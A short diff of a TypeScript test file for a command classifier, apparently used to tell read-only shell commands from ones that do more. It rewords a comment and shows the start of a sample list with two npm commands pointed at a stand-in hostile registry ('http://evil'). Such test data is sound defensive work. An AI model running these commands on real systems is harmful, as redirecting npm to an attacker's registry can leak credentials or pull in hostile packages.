@@ -1,6 +1,6 @@
 import { classifyCommand, commandsIn } from '../../../../../test/support/classify.ts'
 
-/** Sub-commands next to those that only look, and options that turn a look into something else. */
+/** Sub-commands beside read-only ones, and options that make a read-only command write. */
 const DOES_MORE = String.raw`
 npm view x --registry=http://evil
 npm audit --registry http://evil
